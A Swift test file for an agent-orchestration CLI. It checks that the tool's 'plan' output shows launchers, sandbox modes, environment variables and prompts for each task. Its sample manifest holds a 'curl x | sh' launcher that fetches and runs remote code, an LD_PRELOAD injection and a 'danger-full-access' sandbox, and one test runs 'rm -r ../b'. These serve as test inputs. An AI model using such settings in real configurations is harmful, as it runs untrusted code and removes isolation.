import Foundation
import TestSupport
import Testing

@Suite struct `What a plan shows` {
    private static let manifest = """
        version: 1
        run: {name: p, concurrency: 2, launcher: [sh, -c, "curl x | sh; {command}"]}
        defaults: {env: {A: all}}
        tasks:
          - {name: careless, prompt: "first line\\n  second line", sandbox: danger-full-access, env: {LD_PRELOAD: /x.so}, model: m-1}
          - {name: careful, prompt: x, codex_args: [--add-dir, "a b"]}
        """

    @Test func `is every command, sandbox and variable, each with its tasks`() throws {
        try withRun { run in
            try put(Self.manifest, run.root + "/m.yaml")
            let output = try run.quire(["plan", "m.yaml"]).output
            for words in [
                "through the launcher:\n  sh -c 'curl x | sh; {command}'\n",
                "sandbox_mode=\"danger-full-access\"' --skip-git-repo-check --json --model m-1 --add-dir .autonomous/TASK -  (careless)\n",
                "--add-dir 'a b' --add-dir .autonomous/TASK -  (careful)\n",
                "  danger-full-access  (careless)\n",
                "  workspace-write  (careful)\n", "  A=all\n", "  LD_PRELOAD=/x.so  (careless)\n",
            ] { #expect(output.contains(words), "\(words) in \(output)") }
            #expect(!output.contains("\n  second line\n"))
            let prompts = try run.quire(["plan", "m.yaml", "--prompts"]).output
            for role in ["initializer", "executor"] {
                let heading = "prompt of careless as \(role):\n\nTask: first line\n  second line\n"
                #expect(prompts.contains(heading), "\(prompts)")
            }
            #expect(prompts.contains("Task Directory: \(run.task("careless"))\n"))
            #expect(prompts.contains("## Your role: Initializer Agent\n"))
            #expect(prompts.contains("## Your role: Executor Agent\n"))
        }
    }

    @Test func `is in its JSON, too`() throws {
        struct Answer: Decodable {
            struct Work: Decodable {
                var name: String
                var sandbox: String
                var arguments: [String]
                var prompt: String?
                var initializerPrompt: String?
                var executorPrompt: String?
            }

            var agent: [String]
            var launcher: [String]
            var work: [Work]
        }
        try withRun { run in
            try put(Self.manifest, run.root + "/m.yaml")
            let json = try run.quire(["plan", "m.yaml", "--json", "--prompts"]).output
            let answer = try decoded(Answer.self, json)
            #expect(answer.agent == ["codex"] && answer.launcher.count == 3)
            #expect(answer.work.map(\.sandbox) == ["danger-full-access", "workspace-write"])
            #expect(answer.work[0].prompt == "first line\n  second line")
            #expect(answer.work[1].arguments.contains("a b"))
            #expect(answer.work[0].initializerPrompt?.contains("You are the Init") == true)
            #expect(answer.work[0].executorPrompt?.contains("You are the Exec") == true)
        }
    }

    @Test func `are the words that a session gets`() throws {
        try withRun { run in
            let agent = try run.writeAgent(
                "cat > \"prompt-$QUIRE_SESSION\"; exec < \"prompt-$QUIRE_SESSION\""
            )
            try put("Be brief in {task_dir}.\n", run.root + "/template")
            try run.write([("t", "entries=1")], agent: agent, run: "prompts: {executor: template}")
            let plan = try run.quire(["plan", "m.yaml", "--prompts"]).output
            #expect(try run.quire(["run", "m.yaml"]).status == 0)
            #expect(plan.contains("as initializer:\n\n" + text(run.root + "/prompt-1")), "\(plan)")
            // How far the list has come is known when there is one.
            let executor = text(run.root + "/prompt-2").replacing(
                "Current Progress: 0/1\n",
                with: ""
            )
            #expect(plan.contains("as executor:\n\n" + executor), "\(plan)\(executor)")
            let next = try run.quire(["plan", "m.yaml", "--prompts"]).output
            #expect(next.contains("Current Progress: 1/1\n"))
        }
    }

    @Test func `is what would run, and nothing of tasks that are complete or have failed`() throws {
        try withRun { run in
            try run.write(
                [("a", "entries=1"), ("b", "entries=1"), ("c", "fail=turn-failed")],
                defaults: "{same_failure: 1}"
            )
            #expect(try run.quire(["run", "m.yaml"]).status == 100)
            func plan(_ options: String...) throws -> String {
                try run.quire(["plan", "m.yaml"] + options).output
            }
            let others = """
                2 tasks are complete; 1 task failed, stalled or was damaged before, and would go on \
                with --retry-failed alone
                """
            let nothing = try plan()
            #expect(nothing.contains("\nnothing would run\n\(others)\n"), "\(nothing)")
            #expect(!nothing.contains("commands that would run") && !nothing.contains("would take"))
            let one = try plan("--redo", "a")
            #expect(
                one.contains("commands that would run") && one.contains("1 task is complete; 1")
            )
            #expect(one.contains("what 1 task would take (1 more is complete)"), "\(one)")
            #expect(try plan("--redo", "*").contains("what 3 tasks would take, in"))
        }
    }

    @Test func `does not call a task complete that a run leaves damaged`() throws {
        try withRun { run in
            try run.write([("a", "entries=1"), ("b", "entries=1")])
            #expect(try run.quire(["run", "m.yaml"]).status == 0)
            let (list, good) = (run.task("b") + "/task_list.md", run.list("b"))
            try put("## Tasks\n", list)
            #expect(try run.quire(["run", "m.yaml"]).status == 100)
            let plan = try run.quire(["plan", "m.yaml"]).output
            #expect(plan.contains("1 task is complete; 1 task failed, stalled or"), "\(plan)")
            #expect(try run.quire(["run", "m.yaml"]).status == 100)
            try put(good, list)
            let whole = try run.quire(["plan", "m.yaml"]).output
            #expect(whole.contains("\nnothing would run\n2 tasks are complete\n"), "\(whole)")
        }
    }

    @Test(arguments: ["rm -r ../b", "rm task_list.md", "echo '## Tasks' > task_list.md"])
    func `does not call a task complete whose list is gone or damaged`(command: String) throws {
        try withRun { run in
            try run.write([("a", "entries=1"), ("b", "entries=1")])
            #expect(try run.quire(["run", "m.yaml"]).status == 0)
            #expect(try shell(command, in: run.task("b")).status == 0)
            let plan = try run.quire(["plan", "m.yaml"]).output
            #expect(plan.contains("what 1 task would take (1 more is complete)"), "\(plan)")
        }
    }

    @Test(arguments: [60, 80, 132])
    func `fits the terminal, with the warnings at its end`(columns: Int) throws {
        try withRun { run in
            try put(Self.manifest, run.root + "/m.yaml")
            let outcome = try Program(
                "/usr/bin/env",
                [
                    "python3", "-c", commandOnTerminal, "\(columns)", Program.built("quire"),
                    "plan",
                    "m.yaml",
                ],
                in: run.root
            ).run()
            #expect(outcome.status == 0, "\(outcome.error)")
            let lines = outcome.output.replacing("\r\n", with: "\n").split(separator: "\n")
            #expect(lines.first?.hasPrefix("what 2 tasks would take, ") == true, "\(lines)")
            let table = lines.drop { !$0.hasPrefix("TASK ") }.prefix { !$0.hasPrefix("2 tasks") }
            #expect(table.count == 3, "\(table)")
            let text = lines.prefix { !$0.hasPrefix("warning: ") }
            #expect(text.count > 8 && text.allSatisfy { $0.count <= columns }, "\(text)")
            #expect(lines.last?.hasPrefix("warning: ") == true, "\(lines.suffix(2))")
        }
    }
}

@Suite struct `A shared directory` {
    @Test func `is warned of when a run begins, and its status keeps that`() throws {
        try withRun { run in
            try run.write(
                [("t", "entries=1"), ("u", "entries=1")],
                agent: QuireRun.simulator
            )
            let outcome = try run.quire(["run", "m.yaml"])
            #expect(outcome.status == 0)
            let words = "\"t\", \"u\" work in the same directory \(run.root)"
            #expect(outcome.output.contains(words), "\(outcome.output)")
            #expect(try run.quire(["status"]).output.contains(": \(words)"))
            #expect(
                try run.quire(["status", "--json"]).output.contains("work in the same directory")
            )
            let quiet = try run.quire(["run", "m.yaml", "--progress", "none"])
            #expect(quiet.error.contains(words))
        }
    }
}
